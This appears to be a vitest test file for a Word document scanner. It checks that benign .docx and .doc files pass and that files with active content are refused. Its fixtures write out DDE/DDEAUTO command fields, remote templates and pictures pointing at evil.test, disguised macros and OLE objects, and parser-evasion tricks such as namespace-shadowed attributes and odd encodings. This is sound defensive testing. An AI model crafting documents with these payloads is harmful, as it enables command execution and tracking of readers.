import { describe, expect, it } from 'vitest';
import {
  aCompoundFile,
  aDoc,
  aDocx,
  aRelation,
  aZip,
  contentTypes,
  WORD_PARTS,
  wordBody,
} from '../../../testing/builders/documents.ts';
import { DocumentObjection, type Objection } from '../objections.ts';
import { checkDoc } from './doc-check.ts';
import { checkDocx } from './docx-check.ts';

const objectionTo = (check: () => void): Objection | null => {
  try {
    check();
    return null;
  } catch (error) {
    if (error instanceof DocumentObjection) return error.objection;
    throw error;
  }
};
const toDocx = (docx: Buffer) => objectionTo(() => checkDocx(docx));
const toDoc = (doc: Buffer) => objectionTo(() => checkDoc(doc));

const RELATIONS = 'word/_rels/document.xml.rels';
const PNG = Buffer.from('\x89PNG\r\n\x1a\n…', 'latin1');
const OLE = Buffer.from('d0cf11e0a1b11ae1', 'hex');
const withBody = (body: string) => aDocx({ 'word/document.xml': wordBody(body) });
const run = (inside: string) => `<w:r>${inside}</w:r>`;
/** A field as Word stores it. @param codes the part of its code in each run */
const field = (...codes: string[]) =>
  `<w:p>${run('<w:fldChar w:fldCharType="begin"/>')}${codes.map((code) => run(`<w:instrText>${code}</w:instrText>`)).join('')}${run('<w:fldChar w:fldCharType="separate"/>')}${run('<w:t>1</w:t>')}${run('<w:fldChar w:fldCharType="end"/>')}</w:p>`;
const MC = 'http://schemas.openxmlformats.org/markup-compatibility/2006';
const alternatives = (choice: string, fallback: string) =>
  `<mc:AlternateContent xmlns:mc="${MC}"><mc:Choice Requires="wps">${choice}</mc:Choice><mc:Fallback>${fallback}</mc:Fallback></mc:AlternateContent>`;
const boxed = (inside: string) =>
  `<v:textbox xmlns:v="urn:v"><w:txbxContent>${inside}</w:txbxContent></v:textbox>`;
const code = (text: string) => run(`<w:instrText>${text}</w:instrText>`);
/** Before the first code of a field. */
const withDecoy = (decoy: string) =>
  withBody(field('DDEAUTO cmd a').replace('<w:r><w:instrText>', `${decoy}$&`));
const ofKind = (name: string, kind: string, content: string | Buffer) =>
  aDocx({
    '[Content_Types].xml': contentTypes(`<Override PartName="/${name}" ContentType="${kind}"/>`),
    [name]: content,
  });
const utf16 = (text: string) => Buffer.from(`\ufeff${text.replace('UTF-8', 'UTF-16')}`, 'utf16le');

const drawing = (inside: string) =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">${inside}</svg>`;

const SETTINGS_RELATIONS = 'word/_rels/settings.xml.rels';

describe('takes a document of Word', () => {
  it.each<[string, Buffer]>([
    ['of one paragraph', aDocx()],
    ['with a line end behind it', Buffer.concat([aDocx(), Buffer.from('\n')])],
    ['with what an incremental save left', aDocx({ '[trash]/0000.dat': Buffer.alloc(40, 0xff) })],
    ['with keyboard shortcuts', aDocx({ 'word/customizations.xml': '<wne:tcg xmlns:wne="a"/>' })],
    ['with what the Editor of Word found', aDocx({ 'word/intelligence2.xml': '<a/>' })],
    [
      'on a template of the own disk',
      aDocx({ [SETTINGS_RELATIONS]: aRelation('attachedTemplate', 'Normal.dotm') }),
    ],
    [
      'on a template of the own disk, by its whole path',
      aDocx({ [SETTINGS_RELATIONS]: aRelation('attachedTemplate', 'file:///C:\\Users\\a\\Normal.dotm') }),
    ],
    [
      'as Word Online writes it',
      aZip({
        '[Content_Types].xml': contentTypes().replace('word/document.xml', 'word/document2.xml'),
        'word/document2.xml': WORD_PARTS['word/document.xml'],
      }),
    ],
    ['with a link', aDocx({ [RELATIONS]: aRelation('hyperlink', 'https://asociacion.test') })],
    ['with a mail link', aDocx({ [RELATIONS]: aRelation('hyperlink', 'mailto:ana@x.test') })],
    [
      'with page numbers and a table of contents',
      withBody(field(' PAGE ') + field(' TOC \\o "1-3" \\h \\z \\u ') + field('HYPERLINK \\l "_Toc1"')),
    ],
    ['with a linked word', withBody(field(' HYPERLINK "https://asociacion.test" \\o "Vea: aquí" '))],
    ['with a place to type in', withBody(field('MACROBUTTON NoMacro [nombre]'))],
    ['with a picture', ofKind('word/media/firma.png', 'image/png', PNG)],
    ['with a part in UTF-16', aDocx({ 'word/document.xml': utf16(wordBody('<w:p/>')) })],
    [
      'with a signature',
      ofKind(
        '_xmlsignatures/origin.sigs',
        'application/vnd.openxmlformats-package.digital-signature-origin',
        '',
      ),
    ],
    [
      'with a drawing that uses its own parts',
      ofKind(
        'word/media/a.svg',
        'image/svg+xml',
        drawing(
          `<style>.a{fill:url(#g)} @media print{.b{fill:url( "#g" )}}</style><a href="https://a.test"><rect style="stroke:url('#g')" transform="rotate(3)"/></a><image href="data:image/png;base64,AA"/><use xlink:href="#g"/>`,
        ),
      ),
    ],
    [
      'with an address at a company of imports',
      aDocx({
        'word/document.xml': wordBody('<w:p><w:r><w:t>Escriba a ana@importadora.test</w:t></w:r></w:p>'),
        [RELATIONS]: aRelation('hyperlink', 'mailto:ana@importadora.test'),
      }),
    ],
    ['with a part of text beside it', aDocx({ 'word/notas.txt': 'a < b & c' })],
    ['with a page number in a text box', withBody(alternatives(boxed(field('PAGE')), boxed(field('PAGE'))))],
    [
      'with a text box in what a field shows',
      withBody(
        field('TOC').replace('<w:t>1</w:t>', `<w:t>1</w:t>${alternatives(boxed(field('PAGE')), boxed(''))}`),
      ),
    ],
    ['with a `>` in an attribute', withBody(`<w:bookmarkStart w:id="0" w:name="a>b"/>${field('PAGE')}`)],
    [
      'with data of its maker',
      aDocx({ 'customXml/item1.xml': '<datos><poder href="https://a.test">1</poder></datos>' }),
    ],
  ])('takes a document of Word %s', (_, docx) => {
    expect(toDocx(docx)).toBeNull();
  });
});

describe('refuses a document of Word', () => {
  it.each<[string, Buffer, Objection?]>([
    [
      'with a template elsewhere behind a `>` in an attribute',
      aDocx({
        [SETTINGS_RELATIONS]: aRelation('attachedTemplate', 'http://evil.test/a.dotm').replace(
          '<Relationship ',
          '<Relationship xmlns:a="u>" ',
        ),
      }),
    ],
    [
      'with DDE in a simple field behind a `>` in an attribute',
      withBody('<w:fldSimple xmlns:a=">" w:instr="DDEAUTO cmd a"/>'),
    ],
    [
      'with DDE in a code behind a `>` in an attribute',
      withBody(field('DDEAUTO cmd a').replace('<w:instrText>', '<w:instrText xmlns:a="> PAGE ">')),
    ],
    [
      'with the beginning of a field that an attribute of another namespace hides',
      withBody(
        field('D', 'DE cmd a').replace(
          'w:fldCharType="begin"',
          'xmlns:x="urn:x" x:fldCharType="end" w:fldCharType="begin"',
        ),
      ),
    ],
    [
      'with DDE whose runs name the same namespace differently',
      withBody(
        field('D', 'DE cmd a')
          .replace(
            '<w:instrText>DE',
            '<y:instrText xmlns:y="urn:y">PAGE </y:instrText><v:instrText xmlns:v="http://schemas.openxmlformats.org/wordprocessingml/2006/main">DE',
          )
          .replace('DE cmd a</w:instrText>', 'DE cmd a</v:instrText>'),
      ),
    ],
    ...[
      'o:title="&gt;" src="http://evil.test/a.png"',
      'o:title=">" src="http://evil.test/a.png"',
      'src="&#104;ttp://evil.test/a.png"',
      'src="&#x68;ttp&#58;//evil.test/a.png"',
      'src="ht&#10;tp://evil.test/a.png"',
      'src="HTTP://evil.test/a.png"',
      'src="/\\evil.test/a.png"',
    ].map((attributes): [string, Buffer] => [
      `with a linked picture of old drawings: ${attributes}`,
      withBody(`<v:imagedata xmlns:v="urn:v" xmlns:o="urn:o" ${attributes}/>`),
    ]),
    [
      'with DDE in a part that is called a picture',
      ofKind(
        'word/header1.png',
        'application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml',
        wordBody(field('DDEAUTO cmd a')),
      ),
    ],
    [
      'with DDE in UTF-16 under another name',
      aDocx({ 'word/header1.dat': utf16(wordBody(field('DDEAUTO cmd a'))) }),
    ],
    ...[
      ['windows-1252', 'latin1', ''],
      ['UTF-32', 'utf16le', '\0'],
      ['IBM037', 'hex', ''],
    ].map(([encoding = '', as, after = '']): [string, Buffer, Objection] => [
      `with DDE in ${encoding} under another name, and a decoy`,
      aDocx({
        'word/main.dat':
          as === 'hex'
            ? Buffer.from('4c6fa7949340a58599a2899695', 'hex')
            : Buffer.from(
                [...(after && '\ufeff'), ...wordBody(field('DDEAUTO cmd é')).replace('UTF-8', encoding)]
                  .map((letter) => letter + after)
                  .join(''),
                as as 'latin1',
              ),
      }),
      'unreadable',
    ]),
    ['that is not well-formed', withBody('<w:p>'), 'unreadable'],
    ['with a prefix of no namespace', withBody('<x:p/>'), 'unreadable'],
    ...[
      '<rect style="fill:url(http://evil.test/#a)"/>',
      '<rect fill="url(&apos;//evil.test/#a&apos;)"/>',
      '<style>@import "http://evil.test/a.css";</style>',
    ].map((inside): [string, Buffer] => [
      `with a drawing that fetches: ${inside}`,
      ofKind('word/media/a.svg', 'image/svg+xml', drawing(inside)),
    ]),
    [
      'with a kind of macros for a name that is written in codes',
      aDocx({
        '[Content_Types].xml': contentTypes(
          '<Override PartName="/word/%76ba.xml" ContentType="application/vnd.ms-office.vbaProject"/>',
        ),
        'word/vba.xml': '<a/>',
      }),
    ],
    [
      'with an external picture whose escapes are no UTF-8',
      aDocx({ [RELATIONS]: aRelation('image', 'http%3a//evil.test/%ff', false) }),
    ],
    [
      'with a linked picture of old drawings',
      withBody('<v:imagedata xmlns:v="urn:v" xmlns:o="urn:o" o:href="http://evil.test/a.png"/>'),
    ],
    [
      'with a late encoding declaration',
      aDocx({
        'word/document.xml': wordBody('<w:p/>').replace(
          'encoding="UTF-8"',
          `${' '.repeat(300)}encoding="UTF-7"`,
        ),
      }),
      'unreadable',
    ],
    ...[
      'attachedTemplate',
      'oleObject',
      'frame',
      'image',
      'subDocument',
      'mailMergeSource',
      'aFChunk',
      'package',
      'neu',
    ].map((type): [string, Buffer] => [
      `with a relationship ${type} to elsewhere`,
      aDocx({ [RELATIONS]: aRelation(type, 'https://evil.test/a') }),
    ]),
    [
      'with a template on a share',
      aDocx({ 'word/_rels/settings.xml.rels': aRelation('attachedTemplate', 'file://evil.test/a.dotm') }),
    ],
    [
      'with a relationship in a place of its own',
      aDocx({ 'a/b/c.RELS': aRelation('attachedTemplate', 'https://evil.test/a') }),
    ],
    [
      'with a relationship that says it is internal',
      aDocx({ [RELATIONS]: aRelation('image', 'https://evil.test/a.png', false) }),
    ],
    [
      'with a relationship in UTF-16',
      aDocx({ [RELATIONS]: utf16(aRelation('attachedTemplate', 'https://evil.test/a')) }),
    ],
    [
      'with a relationship in UTF-7',
      aDocx({
        [RELATIONS]: `<?xml version="1.0" encoding="UTF-7"?>${aRelation('hyperlink', 'https://a.test')}`,
      }),
      'unreadable',
    ],
    [
      'with a relationship spelt in references',
      aDocx({ [RELATIONS]: aRelation('attached&#84;emplate', 'https://evil.test/a') }),
    ],
    ['with macros under another name', ofKind('word/foto.png', 'application/vnd.ms-office.vbaProject', OLE)],
    ['with macros under another kind', ofKind('word/media/foto.png', 'image/png', OLE)],
    [
      'with macros under a kind that is not looked into',
      ofKind(
        'word/a.bin',
        'application/vnd.openxmlformats-officedocument.wordprocessingml.printerSettings',
        OLE,
      ),
    ],
    ['with macros without a kind', aDocx({ 'word/a.dat': OLE })],
    [
      'with a document of macros as its main part',
      aDocx({
        '[Content_Types].xml': contentTypes('', 'application/vnd.ms-word.document.macroEnabled.main+xml'),
      }),
    ],
    [
      'with a control',
      ofKind('word/activeX/activeX1.xml', 'application/vnd.ms-office.activeX+xml', '<ax:ocx xmlns:ax="a"/>'),
    ],
    [
      'with an object of another program',
      withBody('<w:object><o:OLEObject xmlns:o="o" Type="Link"/></w:object>'),
    ],
    [
      'with an external picture of VML',
      withBody('<w:pict><v:imagedata xmlns:v="v" src="\\\\evil.test\\a.png"/></w:pict>'),
    ],
    ...(
      [
        ['Target', 'https://evil.test/a', 'a.xml'],
        ['TargetMode', 'External', 'Internal'],
      ] as const
    ).map(([name, real, decoy]): [string, Buffer] => [
      `with a relationship whose ${name} is hidden by one of another namespace`,
      aDocx({
        [RELATIONS]: `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships" xmlns:x="urn:x"><Relationship Id="rId9" ${Object.entries(
          { Type: 'http://a/image', Target: 'media/a.png', [name]: real },
        )
          .map(([key, value]) => `${key}="${value}"`)
          .join(' ')} x:${name}="${decoy}"/></Relationships>`,
      }),
    ]),
    [
      'with DDE in a simple field that another attribute hides',
      withBody('<w:fldSimple w:instr="DDEAUTO cmd a" xmlns:x="urn:x" x:instr="PAGE"/>'),
    ],
    [
      'with DDE behind a code of another namespace',
      withBody(
        field('DDEAUTO cmd a').replace(
          '<w:instrText>',
          '<x:instrText xmlns:x="urn:x">PAGE </x:instrText><w:instrText>',
        ),
      ),
    ],
    [
      'with a kind of its main part that another attribute hides',
      aDocx({
        '[Content_Types].xml': contentTypes(
          '',
          'application/vnd.ms-word.document.macroEnabled.main+xml',
        ).replace(
          'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"',
          'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml" xmlns:x="urn:x" x:ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"',
        ),
      }),
    ],
    [
      'with a picture of VML that another attribute hides',
      withBody(
        '<w:pict><v:imagedata xmlns:v="v" xmlns:x="urn:x" src="https://evil.test/a" x:src="a.png"/></w:pict>',
      ),
    ],
    ['with DDE', withBody(field(' DDE cmd "/c calc" '))],
    ['with DDE in several runs', withBody(field(' D', 'DE', 'AUTO c:\\\\a.exe "a" '))],
    ['with DDE in a simple field', withBody('<w:fldSimple w:instr=" ddeauto cmd a "/>')],
    [
      'with DDE in shown text of a code',
      withBody(
        field(' D').replace(
          '</w:r><w:r><w:fldChar w:fldCharType="separate"',
          '</w:r><w:r><w:t>DE cmd a</w:t></w:r><w:r><w:fldChar w:fldCharType="separate"',
        ),
      ),
    ],
    [
      'with a field that another computes',
      withBody(
        `<w:p>${run('<w:fldChar w:fldCharType="begin"/>')}${field('QUOTE 68 68 69')}${run('<w:instrText> cmd a</w:instrText>')}${run('<w:fldChar w:fldCharType="end"/>')}</w:p>`,
      ),
    ],
    ['with DDE in a heading', aDocx({ 'word/header9.xml': wordBody(field('DDEAUTO cmd a')) })],
    [
      'with a field without an end',
      withBody(`${run('<w:fldChar w:fldCharType="begin"/>')}${run('<w:instrText>DDE cmd a</w:instrText>')}`),
    ],
    ['with DDE behind a deleted code', withDecoy(run('<w:delInstrText>PAGE </w:delInstrText>'))],
    ...[
      alternatives(code('PAGE '), ''),
      alternatives('', code('PAGE ')),
      alternatives(run('<w:fldChar w:fldCharType="end"/>'), ''),
      `<x:a xmlns:x="urn:wordprocessingml">${code('PAGE ')}</x:a>`,
    ].map((decoy): [string, Buffer] => [
      `with DDE behind what some readers leave out: ${decoy}`,
      withDecoy(decoy),
    ]),
    ['with a field without a beginning', withBody(run('<w:instrText>DDE cmd a</w:instrText>'))],
    ['with a picture that a field fetches', withBody(field('INCLUDEPICTURE "https://evil.test/a.png"'))],
    ['with the macro of a button', withBody(field('MACROBUTTON AutoOpen clic'))],
    [
      'with entities of its own',
      aDocx({ 'word/document.xml': `<!DOCTYPE a [<!ENTITY b "c">]>${wordBody('')}` }),
    ],
    [
      'with a drawing that fetches',
      ofKind(
        'word/media/a.svg',
        'image/svg+xml',
        '<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.test/a"/></svg>',
      ),
    ],
    ['with two parts of one name', aDocx({ 'WORD/document.xml': wordBody(field('DDE a b')) })],
    ['with something before it', Buffer.concat([Buffer.from('PK\x03\x04'), aDocx()]), 'unreadable'],
  ])('refuses a document of Word %s', (_, docx, objection = 'active') => {
    expect(toDocx(docx)).toBe(objection);
  });

  it('refuses a Word document that unpacks to too much in total', () => {
    const part = `<a>${' '.repeat(8 * 2 ** 20)}</a>`;
    const parts = Object.fromEntries(Array.from({ length: 9 }, (_, index) => [`word/a${index}.xml`, part]));
    expect(toDocx(aDocx(parts))).toBe('excessive');
  });
});

describe('takes a document of old Word', () => {
  it.each<[string, Buffer]>([
    ['of one paragraph', aDoc()],
    [
      'with fields',
      aDoc({ text: 'Página \x13 PAGE \x141\x15, \x13 HYPERLINK "https://a.test" \x01\x14aquí\x15\r' }),
    ],
    ['with a template of the own disk', aDoc({ template: 'C:\\Plantillas\\Normal.dot' })],
    ['with a folder of objects that is empty', aDoc({ streams: { 'ObjectPool/': Buffer.alloc(0) } })],
  ])('takes a document of old Word %s', (_, doc) => {
    expect(toDoc(doc)).toBeNull();
  });
});

it.each([
  'http://127.0.0.1/pixel.png',
  'HTTP://127.0.0.1/pixel.png',
  'Https://evil.test/a.png',
  'File://evil.test/a.png',
  '\\\\evil.test\\a.png',
])('refuses an old Word document whose picture record names %s', (address) => {
  for (const encoding of ['latin1', 'utf16le'] as const)
    expect(toDoc(aDoc({ streams: { Data: Buffer.from(`picture ${address}`, encoding) } }))).toBe('active');
});

describe('refuses a document of old Word', () => {
  it.each<[string, Buffer, Objection?]>([
    ['with macros', aDoc({ streams: { 'Macros/VBA/dir': Buffer.alloc(1) } })],
    ['with an object', aDoc({ streams: { 'ObjectPool/_1/\x01Ole10Native': Buffer.alloc(1) } })],
    ['with an object in a folder in capitals', aDoc({ streams: { 'OBJECTPOOL/_1/a': Buffer.alloc(1) } })],
    [
      'with a linked picture in a stream in capitals',
      aDoc({ streams: { DATA: Buffer.from('picture http://evil.test/a') } }),
    ],
    [
      'with two streams of one name in different case',
      aDoc({ streams: { Data: Buffer.from('picture'), DATA: Buffer.from('picture http://evil.test/a') } }),
      'unreadable',
    ],
    ['with macros beside its signature', aDoc({ streams: { '_signatures/VBA': Buffer.alloc(1) } })],
    ['with DDE', aDoc({ text: '\x13 DDEAUTO cmd "/c calc" \x14a\x15' })],
    [
      'with a picture that a field fetches',
      aDoc({ text: '\x13INCLUDEPICTURE "\\\\\\\\evil.test\\\\a"\x15' }),
    ],
    ['with a template on a share', aDoc({ template: '\\\\evil.test\\a.dot' })],
    ['with a template on the web', aDoc({ template: 'https://evil.test/a.dotm' })],
    ['that is encrypted', aDoc({ flags: 0x0100 }), 'locked'],
    ['of encrypted Word', aCompoundFile({ EncryptedPackage: Buffer.alloc(1) }), 'locked'],
    ['that is a workbook', aCompoundFile({ Workbook: Buffer.alloc(1) }), 'unknown'],
    ['that is cut', aDoc().subarray(0, 2000), 'unreadable'],
  ])('refuses a document of old Word %s', (_, doc, objection = 'active') => {
    expect(toDoc(doc)).toBe(objection);
  });

  it('refuses an old Word document with endless or shared chains', () => {
    const tableAt = 512;
    for (const [at, next] of [
      [4, 1],
      [8, 2],
      [12, 1],
      [40, 2],
    ] as const) {
      const doc = aDoc();
      doc.writeUInt32LE(next, tableAt + at);
      expect(toDoc(doc)).toBe('unreadable');
    }
    const listing = aDoc();
    listing.writeUInt32LE(0, 68);
    expect(toDoc(listing)).toBe('unreadable');
  });
});
